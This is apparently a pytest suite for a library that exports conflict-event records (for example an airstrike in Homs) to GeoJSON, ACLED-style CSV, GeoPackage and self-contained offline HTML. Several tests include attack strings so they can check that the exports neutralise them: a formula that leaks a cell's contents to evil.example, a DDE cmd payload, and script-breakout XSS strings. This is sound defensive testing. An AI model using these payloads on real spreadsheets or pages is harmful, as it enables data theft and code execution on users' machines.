import copy
import csv
import io
import json
import math
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
from shapely.geometry import Point, Polygon

from geo.errors import AssetsMissingError
from geo.io.export import (ACLED_COLUMNS, lowest_figure, to_acled_csv_bytes, to_feature_collection,
                        to_geojson_bytes, to_geopackage_bytes)
from geo.frame import combine
from geo.render.standalone import VENDOR_DIR, standalone_html

from .offline_browser import offline_page


def test_geojson_is_rfc7946_and_reads_back(sample):
    data = to_geojson_bytes(sample.frame)
    collection = json.loads(data, parse_constant=lambda c: (_ for _ in ()).throw(ValueError(c)))
    assert collection["type"] == "FeatureCollection"
    assert "crs" not in collection
    assert len(collection["features"]) == len(sample.frame)
    for feature in collection["features"]:
        lon, lat = feature["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        props = feature["properties"]
        assert props["kind"] in {"event", "asset", "position", "claim"}
        assert props["event_date"] is None or len(props["event_date"]) == 10
        assert isinstance(props["sources"], list) and props["sources"][0]["quote"]
        for value in props.values():
            assert not (isinstance(value, float) and math.isnan(value))
    homs = next(f for f in collection["features"] if f["properties"]["place"] == "Homs")
    assert homs["geometry"]["coordinates"][0] > homs["geometry"]["coordinates"][1]  # lon 36.7, lat 34.7
    back = gpd.read_file(io.BytesIO(data))
    assert len(back) == len(sample.frame) and back.crs.to_epsg() == 4326


def test_missing_values_become_null(sample):
    frame = sample.frame.copy()
    frame.loc[frame.index[0], "place_confidence"] = float("nan")
    frame.loc[frame.index[1], "geometry"] = None
    collection = to_feature_collection(frame)
    assert collection["features"][0]["properties"]["place_confidence"] is None
    assert collection["features"][1]["geometry"] is None
    json.dumps(collection, allow_nan=False)


def test_control_areas_export_as_counter_clockwise_polygons(sample):
    from shapely.geometry import Polygon

    from geo.frame import combine
    clockwise = Polygon([(36.0, 34.0), (36.0, 35.0), (37.0, 35.0), (37.0, 34.0)])
    assert not clockwise.exterior.is_ccw
    area = gpd.GeoDataFrame({"kind": ["position"], "actor": ["Syrian rebels"], "sources": [[]]},
                            geometry=[clockwise], crs="EPSG:4326")
    collection = json.loads(to_geojson_bytes(combine(sample.frame, area)))
    polygon = collection["features"][-1]["geometry"]
    assert polygon["type"] == "Polygon"
    ring = polygon["coordinates"][0]
    assert Polygon(ring).exterior.is_ccw and ring[0] == ring[-1]


# --- ACLED-like CSV ---------------------------------------------------------------------------

HEADER = ["event_date", "event_type", "sub_event_type", "actor1", "actor2", "location", "latitude", "longitude",
          "geo_precision", "time_precision", "source", "notes", "fatalities",
          "quote", "url", "kind", "record_id", "corroboration"]


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def _homs_strike(frame):
    return frame[(frame["place"] == "Homs") & (frame["sub_event_type"] == "Air/drone strike")].iloc[0]


def test_acled_csv_has_the_columns_in_order_and_one_row_per_record(sample):
    frame = sample.frame
    data = to_acled_csv_bytes(frame)
    assert ACLED_COLUMNS == HEADER
    assert data.decode("utf-8").splitlines()[0] == ",".join(HEADER)
    table = pd.read_csv(io.BytesIO(data), encoding="utf-8")
    assert list(table.columns) == HEADER
    assert len(table) == len(frame)
    assert list(table["record_id"]) == list(frame["record_id"])
    assert table["latitude"].dtype.kind == "f" and table["longitude"].dtype.kind == "f"
    homs = table[table["record_id"] == _homs_strike(frame)["record_id"]].iloc[0]
    assert homs["location"] == "Homs" and homs["actor1"] == "Russia" and homs["event_type"] == "Explosions/Remote violence" and homs["sub_event_type"] == "Air/drone strike"
    assert homs["latitude"] == pytest.approx(34.7, abs=0.1) and homs["longitude"] == pytest.approx(36.7, abs=0.1)
    assert homs["fatalities"] == 30  # "more than 30 Syrian civilians" and "32 civilian deaths": the lower
    assert "more than 30 Syrian civilians" in homs["notes"] and "32 civilian deaths" in homs["notes"]
    assert homs["geo_precision"] == "town" and homs["time_precision"] == "day"
    assert homs["corroboration"] == 3
    assert "VOA" in homs["source"].split("; ")
    assert homs["source"].count("VOA") == 1  # each outlet once, however many quotes it gave
    strike = _homs_strike(frame)
    assert homs["quote"].split(" | ") == list(dict.fromkeys(s["quote"] for s in strike["sources"]))
    syria = table[(table["location"] == "Syria") & table["fatalities"].isna()]
    assert len(syria)  # no figure stated: empty, not 0
    claim = table[table["kind"] == "claim"].iloc[0]
    assert claim["notes"] == frame[frame["kind"] == "claim"].iloc[0]["explanation"]


def test_acled_csv_defuses_formulas_but_keeps_negative_coordinates(sample):
    frame = sample.frame.iloc[:2].copy()
    sources = copy.deepcopy(frame.iloc[0]["sources"])
    sources[0].update(quote='=HYPERLINK("http://evil.example/?leak="&A1,"click")', outlet="@SUM(1+1)",
                      title="=HYPERLINK(\"http://evil.example\")")
    frame.at[frame.index[0], "sources"] = sources
    frame.at[frame.index[0], "actor"] = "+cmd|' /C calc'!A0"
    frame.at[frame.index[0], "place"] = "-2+3"
    frame.at[frame.index[1], "geometry"] = Point(-70.65, -33.45)  # Santiago de Chile
    rows = _csv_rows(to_acled_csv_bytes(frame))
    assert rows[0]["quote"].startswith("'=HYPERLINK(")
    assert rows[0]["notes"].startswith("'=HYPERLINK(")
    assert rows[0]["source"].startswith("'@SUM")
    assert rows[0]["actor1"].startswith("'+cmd") and rows[0]["location"] == "'-2+3"
    assert rows[1]["latitude"] == "-33.450000" and rows[1]["longitude"] == "-70.650000"
    table = pd.read_csv(io.BytesIO(to_acled_csv_bytes(frame)))
    assert table["latitude"].iloc[1] == pytest.approx(-33.45)


def test_acled_csv_places_areas_at_a_point_inside_and_leaves_unlocated_rows_empty(sample):
    square = Polygon([(36.0, 34.0), (36.0, 35.0), (37.0, 35.0), (37.0, 34.0)])
    areas = gpd.GeoDataFrame({"kind": ["position", "position"], "actor": ["Syrian rebels", "Kurds"],
                              "sources": [[], []]}, geometry=[square, None], crs="EPSG:4326")
    rows = _csv_rows(to_acled_csv_bytes(combine(sample.frame, areas)))
    assert len(rows) == len(sample.frame) + 2
    area, nowhere = rows[-2], rows[-1]
    assert square.contains(Point(float(area["longitude"]), float(area["latitude"])))
    assert nowhere["latitude"] == nowhere["longitude"] == "" and nowhere["actor1"] == "Kurds"


def test_lowest_figure_reads_the_number_of_each_stated_figure():
    assert lowest_figure([{"figure": "32 civilian deaths", "report": "b"},
                          {"figure": "more than 30 Syrian civilians", "report": "a"}]) == 30
    assert lowest_figure([{"figure": "1,200 people", "report": "a"}]) == 1200
    assert lowest_figure([{"figure": "1,200 people", "report": "a"}, {"figure": 7, "report": "b"}]) == 7
    assert lowest_figure([{"figure": "dozens of people", "report": "a"}]) is None
    assert lowest_figure(None) is None and lowest_figure(float("nan")) is None


# --- GeoPackage -------------------------------------------------------------------------------

def _write(data: bytes, tmp_path: Path) -> Path:
    path = tmp_path / "records.gpkg"
    path.write_bytes(data)
    return path


def test_geopackage_has_a_layer_per_kind_in_wgs84_with_sources_as_json(sample, tmp_path):
    frame = sample.frame
    path = _write(to_geopackage_bytes(frame), tmp_path)
    assert path.read_bytes()[:16] == b"SQLite format 3\x00"
    layers = {name: kind for name, kind in pyogrio.list_layers(path)}
    counts = frame["kind"].value_counts()
    assert set(layers) == {"events", "assets", "positions", "claims"}
    for name, kind in [("events", "event"), ("assets", "asset"), ("positions", "position"), ("claims", "claim")]:
        layer = gpd.read_file(path, layer=name)
        assert len(layer) == counts[kind]
        assert layer.crs.to_epsg() == 4326
        assert set(layer["kind"]) == {kind}
    events = gpd.read_file(path, layer="events")
    homs = events[events["record_id"] == _homs_strike(frame)["record_id"]].iloc[0]
    sources = json.loads(homs["sources"])
    assert [s["quote"] for s in sources] == [s["quote"] for s in _homs_strike(frame)["sources"]]
    assert {f["figure"] for f in json.loads(homs["fatalities"])} == {"more than 30 Syrian civilians",
                                                                     "32 civilian deaths"}
    assert homs.geometry.y == pytest.approx(34.7, abs=0.1) and homs.geometry.x == pytest.approx(36.7, abs=0.1)
    assert "verdict" not in events.columns  # claim columns only where they mean something
    assets = gpd.read_file(path, layer="assets")
    transit = assets[assets["event_type"] == "transit"].iloc[0]
    assert json.loads(transit["origin"])["name"] == "Black Sea"
    claims = gpd.read_file(path, layer="claims")
    assert claims["claim_km"].dtype.kind == "f" and claims["verdict"].iloc[0] == "not consistent"


def test_geopackage_writes_areas_beside_points_and_keeps_rows_without_geometry(sample, tmp_path):
    square = Polygon([(36.0, 34.0), (36.0, 35.0), (37.0, 35.0), (37.0, 34.0)])
    areas = gpd.GeoDataFrame({"kind": ["position", "position"], "actor": ["Syrian rebels", "Kurds"],
                              "sources": [[{"report": "file", "quote": "held area"}], []]},
                             geometry=[square, None], crs="EPSG:4326")
    frame = combine(sample.frame, areas)
    path = _write(to_geopackage_bytes(frame), tmp_path)
    positions = gpd.read_file(path, layer="positions")
    assert len(positions) == (sample.frame["kind"] == "position").sum() + 2
    assert set(positions.geom_type.dropna()) == {"Point", "Polygon"}
    assert positions[positions["actor"] == "Kurds"].geometry.iloc[0] is None
    area = positions[positions.geom_type == "Polygon"].iloc[0]
    assert area.geometry.equals(square) and json.loads(area["sources"])[0]["quote"] == "held area"


def test_geopackage_of_nothing_says_so(sample):
    with pytest.raises(ValueError, match="at least one record"):
        to_geopackage_bytes(sample.frame.iloc[:0])


# --- standalone HTML --------------------------------------------------------------------------

class _Links(HTMLParser):
    """Every URL the page itself would fetch: script src, link href, img src."""

    def __init__(self):
        super().__init__()
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script" and attrs.get("src"):
            self.urls.append(attrs["src"])
        if tag == "link" and attrs.get("href"):
            self.urls.append(attrs["href"])
        if tag == "img" and attrs.get("src"):
            self.urls.append(attrs["src"])


@pytest.fixture(scope="module")
def sample_map(sample):
    from geo.render.webmap import build_map, load_basemap
    return build_map(sample.frame, basemap=load_basemap())


def _style_urls(html: str) -> list[str]:
    styles = "".join(re.findall(r"<style\b[^>]*>(.*?)</style>", html, re.S))
    return [u.strip("\"'") for u in re.findall(r"url\(([^)]*)\)", styles)]


def test_standalone_html_needs_nothing_but_itself(sample, sample_map):
    html = standalone_html(sample_map)
    assert 'src="/app/' not in html and 'href="/app/' not in html and "/app/static/vendor" not in html
    parser = _Links()
    parser.feed(html)
    assert parser.urls == []  # no script, stylesheet or image outside the file
    assert not re.search(r"<(?:script|link)\b[^>]*(?:src|href)\s*=\s*[\"']?(?:https?:)?//", html)
    assert all(u.startswith(("data:", "#")) for u in _style_urls(html))
    for name in ("leaflet/leaflet.js", "jquery/jquery.min.js", "leaflet/leaflet.css",
                 "fontawesome/css/all.min.css"):
        assert f'data-inlined="{name}"' in html
    assert "L.map(" in html
    for record_id in sample.frame["record_id"]:
        assert f"geo-rec-{record_id}" in html
    assert "data:font/woff2;base64," in html and "data:image/png;base64," in html
    assert len(html.encode("utf-8")) < 3_000_000
    smaller = standalone_html(sample_map, fonts=False)
    assert "data:font/woff2" not in smaller and len(smaller) < len(html) - 500_000


@pytest.fixture()
def vendor_copy(tmp_path):
    if not VENDOR_DIR.is_dir():
        pytest.fail(f"expected the vendored assets in {VENDOR_DIR}: run `python -m geo.render.assets`")
    return Path(shutil.copytree(VENDOR_DIR, tmp_path / "vendor"))


def test_inlined_script_cannot_close_its_element(sample_map, vendor_copy):
    leaflet = vendor_copy / "leaflet" / "leaflet.js"
    leaflet.write_text(leaflet.read_text(encoding="utf-8") + '\nvar breakout = "</script><script>alert(1)</SCRIPT>";\n',
                       encoding="utf-8")
    css = vendor_copy / "leaflet" / "leaflet.css"
    css.write_text(css.read_text(encoding="utf-8") + '\n.x::after{content:"</style><script>alert(2)</script>"}\n',
                   encoding="utf-8")
    html = standalone_html(sample_map, vendor_dir=vendor_copy)
    start = html.index('<script data-inlined="leaflet/leaflet.js">')
    body = html[start:html.index("</script>", start)]
    assert 'var breakout = "<\\/script><script>alert(1)<\\/SCRIPT>";' in body
    start = html.index('<style data-inlined="leaflet/leaflet.css">')
    assert '<\\/style><script>alert(2)</script>' in html[start:html.index("</style>", start)]


def test_standalone_html_without_vendored_files_says_how_to_build_them(sample_map, vendor_copy, tmp_path):
    with pytest.raises(AssetsMissingError, match=r"python -m geo\.render\.assets"):
        standalone_html(sample_map, vendor_dir=tmp_path / "nowhere")
    (vendor_copy / "leaflet" / "images" / "layers.png").unlink()
    with pytest.raises(AssetsMissingError, match=r"layers\.png.*python -m geo\.render\.assets"):
        standalone_html(sample_map, vendor_dir=vendor_copy)


def test_standalone_html_refuses_a_map_that_still_links_a_cdn():
    import folium
    m = folium.Map(tiles=None)  # folium's own links: cdn.jsdelivr.net, ...
    with pytest.raises(AssetsMissingError, match=r"https://cdn\.jsdelivr\.net/"):
        standalone_html(m)
    kept = standalone_html(m, strict=False)
    assert '<script src="https://cdn.jsdelivr.net/' in kept


@pytest.mark.browser
def test_standalone_html_opens_from_disk_with_the_network_cut(sample, tmp_path):
    from geo.render.webmap import build_map, load_basemap

    frame = sample.frame.copy()
    sources = copy.deepcopy(frame.iloc[1]["sources"])
    sources[0]["quote"] = "Homs </script><script>alert(1)</script> ${alert(2)}"
    frame.at[frame.index[1], "sources"] = sources
    path = tmp_path / "map.html"
    path.write_text(standalone_html(build_map(frame, basemap=load_basemap())), encoding="utf-8")
    with offline_page(allow=("file:", "data:")) as page:
        page.goto(path.as_uri())
        record = frame.iloc[1]["record_id"]
        page.locator(f".geo-rec-{record}").first.wait_for(timeout=10_000)
        assert page.locator(".geo-marker").count() == frame.geometry.notna().sum()
        page.locator(f".geo-rec-{record}").first.dispatch_event("click")  # other records share Homs
        assert "</script><script>alert(1)</script>" in page.locator(".leaflet-popup-content").inner_text()
        # Leaflet's default marker images, which it cannot find through a data: URI in leaflet.css
        assert page.evaluate("new L.Icon.Default()._getIconUrl('icon')").startswith("data:image/png;base64,")
        # the icon font loads from the file itself (nothing on this map draws an icon yet)
        assert page.evaluate("document.fonts.load('900 16px \"Font Awesome 6 Free\"').then(f => f.length)") > 0
        assert page.outside == [] and page.dialogs == [] and page.errors == []


def test_formulas_after_spaces_controls_or_invisible_marks_and_full_width_signs_are_defused(sample):
    from geo.io.export import defuse_formula

    risky = [" =1+1", "\t=1", "\r+1", "\n-1", "  @SUM(A1)", "=", "+", "-", "@", "\u200b=1+1", "\u200f=1",
             "\ufeff=1", "\x00=1", "\u00a0=1", "\u3000=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",
             "\tplain", "\rplain"]
    for text in risky:
        assert defuse_formula(text) == "'" + text, repr(text)
    for text in ("Homs", "1+1=2", " Aleppo = city", "", "   ", "'=already quoted"):
        assert defuse_formula(text) == text, repr(text)
    frame = sample.frame.iloc[:1].copy()
    frame.at[frame.index[0], "place"] = " =1+1"
    frame.at[frame.index[0], "actor"] = "\u200b=HYPERLINK(\"http://evil.example\")"
    [row] = _csv_rows(to_acled_csv_bytes(frame))
    assert row["location"] == "' =1+1" and row["actor1"].startswith("'\u200b=HYPERLINK")
